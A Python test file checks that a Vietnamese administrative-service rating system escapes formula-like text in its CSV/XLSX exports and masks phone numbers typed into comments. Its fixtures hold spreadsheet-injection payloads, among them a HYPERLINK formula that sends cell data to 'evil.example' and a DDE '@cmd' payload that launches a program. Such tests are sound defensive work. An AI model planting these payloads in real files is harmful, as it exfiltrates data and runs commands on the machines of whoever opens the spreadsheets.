"""Exports (dashboard CSV and XLSX, `motcua-central export ratings`): a text cell is never a formula,
whoever wrote the text (an admin's staff name, a citizen's comment), and the text is kept."""

import csv
import io
import uuid

import pytest
import requests
from openpyxl import load_workbook

from tests.support.dash_web import signed_in

OFFICE = "XA-CONGTHUC"
PASSWORD = "mật-khẩu-đủ-dài"
PERIOD = {"office": OFFICE, "from": "2025-10-01", "to": "2025-10-31"}
# Text a spreadsheet would run: each starts with = + - @ (or a full-width =).
NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "@SUM(1+1)",
    "+1+2 Lan",
    "-2+3 Bình",
    "＝1+1 Hoa",
    "Nguyễn Văn An",
]
COMMENTS = [
    "=1+1",
    '@cmd|" /C calc"!A0',
    "+84 90 123 4567 gọi tôi",
    "-5 điểm",
    "\t=2+2",
    "＠3+3",
    "Cán bộ nhiệt tình (090) 123 4567",
    "09O1234567 số tôi",
    "gọi 0901.234.567 hoặc 0243 123 4567",
    "số mới 0 9 1 2 3 4 5 6 7 8, cảm ơn",
]
PHONES = ("123 4567", "1234567", "09O1234567", "0901.234.567", "0 9 1 2 3 4 5 6 7 8")
HIDDEN = {
    "[số điện thoại đã ẩn] gọi tôi",
    "Cán bộ nhiệt tình [số điện thoại đã ẩn]",
    "[số điện thoại đã ẩn] số tôi",
    "gọi [số điện thoại đã ẩn] hoặc [số điện thoại đã ẩn]",
    "số mới [số điện thoại đã ẩn], cảm ơn",
}


@pytest.fixture(scope="module")
def office(shared_server):
    """Officers named like formulas, one rating each in October 2025, and an admin signed in (once per module:
    the tests only read)."""
    shared_server.cli("office", "add", OFFICE, "Trung tâm Phục vụ hành chính công xã Công Thức")
    ids = [
        int(shared_server.cli("staff", "add", "--office", OFFICE, "--name", name, "--counter", str(n)).split()[-1])
        for n, name in enumerate(NAMES, start=1)
    ]
    token = shared_server.device_token("rating", OFFICE, 1)
    items = [
        {
            "id": str(uuid.uuid4()),
            "device_seq": n,
            "created_at": f"2025-10-{n + 1:02d}T09:00:00+07:00",
            "office": OFFICE,
            "counter": n,
            "staff_id": staff_id,
            "scale": 3,
            "score": 1 + n % 3,
            "reasons": [],
            "comment": COMMENTS[n - 1],
            "phone": None,
            "dossier_code": None,
        }
        for n, staff_id in enumerate(ids, start=1)
    ]
    items += [
        {
            **items[0],
            "id": str(uuid.uuid4()),
            "device_seq": 10 + n,
            "comment": comment,
            "staff_id": None,
            "created_at": f"2025-10-2{n}T09:00:00+07:00",
        }
        for n, comment in enumerate(COMMENTS[len(ids) :])
    ]
    answer = requests.post(
        shared_server.url + "/api/v1/ratings",
        json={"ratings": items},
        timeout=15,
        headers={"Authorization": f"Bearer {token}", "Idempotency-Key": str(uuid.uuid4())},
    )
    assert {r["status"] for r in answer.json()["results"]} == {"accepted"}, answer.text
    shared_server.cli("admin", "add", "xuat-" + str(shared_server.port), "--password-stdin", stdin=PASSWORD + "\n")
    return signed_in(shared_server.url, "xuat-" + str(shared_server.port), PASSWORD)


def _is_formula_text(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＠"))


def test_dashboard_xlsx_has_no_formula_and_keeps_text_and_numbers(shared_server, office):
    for lang in ("vi", "en"):
        got = office.get(
            shared_server.url + "/admin/by/officer", params={**PERIOD, "format": "xlsx", "lang": lang}, timeout=15
        )
        assert got.status_code == 200
        sheet = load_workbook(io.BytesIO(got.content)).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []
        rows = {row[0].value: row for row in sheet.iter_rows(min_row=2) if row[0].value in NAMES}
        assert len(rows) == len(NAMES)  # each name exactly as typed
        assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and _is_formula_text(c.value))
        assert [row[1].value for row in rows.values()] == [1] * len(NAMES)  # numbers stay numbers
        rates = [row[3] for row in rows.values()]
        assert {r.value for r in rates} == {0.0, 1.0} and all(r.number_format == "0.0%" for r in rates)


def test_dashboard_csv_marks_formula_text_as_text(shared_server, office):
    got = office.get(shared_server.url + "/admin/by/officer", params={**PERIOD, "format": "csv"}, timeout=15)
    lines = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    cells = [c for line in lines for c in line]
    assert [c for c in cells if _is_formula_text(c)] == []
    named = {line[0]: line for line in lines[1:] if line[0].removeprefix("'") in NAMES}
    assert sorted(named) == sorted(name if name == "Nguyễn Văn An" else "'" + name for name in NAMES)
    assert [line[1] for line in named.values()] == ["1"] * len(NAMES)


def test_cli_export_has_no_formula_and_no_typed_phone(shared_server, office):
    out = shared_server.cli("export", "ratings", "--office", OFFICE)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(COMMENTS)
    cells = [c for r in rows for c in r.values()]
    assert [c for c in cells if _is_formula_text(c)] == []
    comments = {r["comment"] for r in rows}
    # (the server trims what the tablet sends: the tab before "=2+2" is not stored)
    assert {"'=1+1", '\'@cmd|" /C calc"!A0', "'-5 điểm", "'=2+2", "'＠3+3"} <= comments
    assert HIDDEN <= comments
    for phone in PHONES:
        assert phone not in out
    assert sorted(int(r["device_seq"]) for r in rows) == [1, 2, 3, 4, 5, 6, 10, 11, 12, 13]  # numbers as numbers
    assert {r["score"] for r in rows} <= {"1", "2", "3"}


def test_a_cell_starting_with_a_tab_or_return_is_marked_too():
    from central.exports import csv_cell

    assert [csv_cell(v) for v in ("\t=1+1", "\r=1+1", "=1", "a=1", 5, -5, None, "")] == [
        "'\t=1+1",
        "'\r=1+1",
        "'=1",
        "a=1",
        5,
        -5,
        "",
        "",
    ]


def test_phone_numbers_typed_in_comments_are_hidden_on_the_dashboard_and_the_report_api(shared_server, office):
    page = office.get(shared_server.url + "/admin/by/counter", params=PERIOD, timeout=15).text
    admin = shared_server.admin_token()
    api = requests.get(
        shared_server.url + "/api/v1/reports/comments",
        params=PERIOD,
        timeout=15,
        headers={"Authorization": f"Bearer {admin}"},
    )
    comments = {i["comment"] for i in api.json()["items"]}
    assert HIDDEN <= comments and "-5 điểm" in comments
    for text in (page, api.text):
        for phone in PHONES:
            assert phone not in text
    assert "Cán bộ nhiệt tình [số điện thoại đã ẩn]" in page
